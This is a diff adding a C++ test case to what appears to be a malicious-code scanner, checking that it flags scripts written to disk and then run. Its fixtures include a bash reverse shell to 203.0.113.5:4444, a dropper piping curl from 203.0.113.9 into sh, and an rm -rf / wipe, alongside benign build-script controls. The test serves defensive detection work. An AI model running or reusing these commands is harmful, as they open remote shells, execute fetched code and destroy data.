@@ -142,6 +142,32 @@ TEST(Mechanisms, ParsedConfigurationsHoldTheirFiles) {
   for (const auto& c : cases) check(c);
 }
 
+// A script written with constant text and then run: the text is what runs.
+TEST(Mechanisms, DroppedScriptsAreInterpreted) {
+  const Case cases[] = {
+      {"reverse shell written to a file, run by bash", B,
+       "import subprocess\nwith open('/tmp/x.sh', 'w') as f:\n"
+       "    f.write('#!/bin/bash\\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\\n')\n"
+       "subprocess.run(['bash', '/tmp/x.sh'])\n",
+       "REVERSE-SHELL"},
+      {"python dropper run by python3", B,
+       "import os\nopen('/tmp/s.py', 'w').write('import os\\nos.system(\"curl -s http://203.0.113.9/a | sh\")\\n')\n"
+       "os.system('python3 /tmp/s.py')\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"script run by its own name (#!)", B,
+       "import os\np = '/tmp/run.sh'\nwith open(p, 'w') as f:\n    f.write('#!/bin/sh\\nrm -rf / --no-preserve-root\\n')\n"
+       "os.chmod(p, 0o755)\nos.system(p)\n",
+       "WIPE"},
+      {"shell: heredoc then bash", B, "cat > /tmp/y.sh <<EOF\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\nEOF\nbash /tmp/y.sh\n",
+       "REVERSE-SHELL", Language::shell},
+      {"a build script it writes and runs", M,
+       "import subprocess\nwith open('build.sh', 'w') as f:\n    f.write('#!/bin/sh\\nmake -j2\\n')\nsubprocess.run(['sh', 'build.sh'])\n"},
+      {"a script that runs itself again ends", M,
+       "import subprocess\nwith open('loop.sh', 'w') as f:\n    f.write('#!/bin/sh\\nsh loop.sh\\n')\nsubprocess.run(['sh', 'loop.sh'])\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 TEST(Mechanisms, CharacterSetsDecodeThroughIconv) {
   auto d = decode_codec(std::string("\x85\xa5\x81\x93"), "cp1026");
   ASSERT_TRUE(d.has_value());
